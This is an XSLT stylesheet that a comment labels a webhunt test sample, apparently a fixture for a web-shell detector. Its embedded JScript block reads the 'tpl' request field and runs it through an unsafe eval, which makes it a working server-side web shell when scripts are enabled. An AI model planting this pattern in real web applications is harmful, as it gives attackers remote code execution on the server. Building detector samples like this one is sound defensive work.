<?xml version="1.0"?>
<!-- webhunt test sample (inert structure): a stylesheet whose JScript block takes the request from
     HttpContext.Current and evaluates one of its fields; a loader page with scripts enabled runs it -->
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"
    xmlns:msxsl="urn:schemas-microsoft-com:xslt" xmlns:fn="urn:sample-functions">
  <msxsl:script language="JScript" implements-prefix="fn">
    <msxsl:assembly name="System.Web, Version=2.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a"/>
    function render() {
      var ctx = System.Web.HttpContext.Current;
      var body = ctx.Request.Item["tpl"];
      eval(body, "unsafe");
      ctx.Response.End();
      return "";
    }
  </msxsl:script>
  <xsl:template match="/">
    <xsl:value-of select="fn:render()"/>
  </xsl:template>
</xsl:stylesheet>
